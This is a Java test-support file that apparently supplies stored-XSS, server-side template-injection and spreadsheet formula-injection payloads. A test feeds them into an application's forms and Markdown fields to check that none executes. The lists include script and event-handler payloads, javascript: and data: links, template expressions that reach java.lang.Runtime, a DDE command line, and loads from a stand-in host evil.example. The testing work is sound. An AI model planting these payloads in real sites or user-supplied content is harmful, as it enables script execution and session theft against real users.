package app.trellis.misuse;

import java.util.List;
import java.util.stream.IntStream;

/** What attackers store in the hope that it runs for whoever looks at it. Each script would call {@code hit()}. */
class Payloads {

    /** What no page may show: the result of the expressions below. */
    static final String EVALUATED = "50337";

    /** The same where it is no part of an id or a token, which hold it by chance. */
    static final String EVALUATED_ALONE = "(?<![0-9A-Za-z-])50337(?![0-9A-Za-z-])";

    /** Each fits in any line of a form. */
    static final List<String> LINES = List.of(
            "<script>hit()</script>",
            "\"><script src=//evil.example/x.js></script>",
            "<img src=x onerror=hit()>",
            "\" autofocus onfocus=hit() x=\"",
            "' onmouseover='hit()",
            "</title></textarea><svg/onload=hit()>",
            "</script><script>hit()</script>",
            "<math><maction actiontype=statusline xlink:href=javascript:hit()>x",
            "<iframe srcdoc='<script>parent.hit()</script>'>",
            "javascript:hit()",
            "[x](javascript:hit())",
            "__${7*7191}__::.x ${7*7191} *{7*7191} #{7*7191} [[${7*7191}]] @{7*7191}",
            "{{7*7191}} <%= 7*7191 %> ${T(java.lang.Runtime).getRuntime()}",
            "\u202Etxt.exe\u202C \u2066nested\u2069 \u200B",
            "=HYPERLINK(\"javascript:hit()\")",
            "+cmd|' /C calc'!A0 @SUM(1) -2");

    /** What is read as Markdown, and tries to become more than that. */
    private static final List<String> BLOCKS = List.of(
            "[a](javascript:hit()) [b](JaVaScRiPt:hit()) [c](java\tscript:hit()) [d](&#106;avascript:hit())",
            "![a](javascript:hit()) ![b](x\"onerror=\"hit()) [![c](//evil.example/c.svg)](vbscript:hit())",
            "<javascript:hit()> <https://evil.example/\"onclick=\"hit()> <data:text/html,<script>hit()</script>>",
            "[e][ref] [f][REF]\n\n[ref]: javascript:hit() \"onclick=hit()\"",
            "<script>hit()</script>\n\n<style>@import'//evil.example'</style>\n\n<base href=//evil.example>",
            "<svg><script>hit()</script><a xlink:href=\"javascript:hit()\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
            "<form action=javascript:hit()><button formaction=javascript:hit()>x</button></form>",
            "<details open ontoggle=hit()>x</details> <video><source onerror=hit()></video>",
            "```\"><script>hit()</script>\n</code></pre><script>hit()</script>\n```",
            "<!--><img src=x onerror=hit()>--> <![CDATA[<img src=x onerror=hit()>]]> <?x <img src=x onerror=hit()>?>",
            "[g](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==) [h](//evil.example 't\"onclick=\"hit()')",
            "# <img src=x onerror=hit()>\n> <iframe src=javascript:hit()>\n\n- <object data=javascript:hit()>",
            "__${7*7191}__::.x [[${7*7191}]] [(${7*7191})] th:utext=\"${7*7191}\" {{7*7191}}",
            "=HYPERLINK(\"javascript:hit()\")\n@SUM(1+1)\n\u202Etxt.exe\u202C");

    private Payloads() {}

    /** This one, or the next that is no longer; the beginning of one where a field takes a few characters only. */
    static String line(int number, int longest) {
        return IntStream.range(number, number + LINES.size())
                .mapToObj(other -> LINES.get(Math.floorMod(other, LINES.size())))
                .filter(line -> line.length() <= longest)
                .findFirst()
                .orElseGet(() -> LINES.get(0).substring(0, longest));
    }

    /** As many of the blocks as fit, from this one on, with line ends as browsers send them. */
    static String text(int number, int longest) {
        var text = new StringBuilder();
        for (var i = 0; i < BLOCKS.size(); i++) {
            var block = BLOCKS.get((number + i) % BLOCKS.size()).replace("\n", "\r\n") + "\r\n\r\n";
            if (text.length() + block.length() <= longest) text.append(block);
        }
        return text.toString();
    }
}
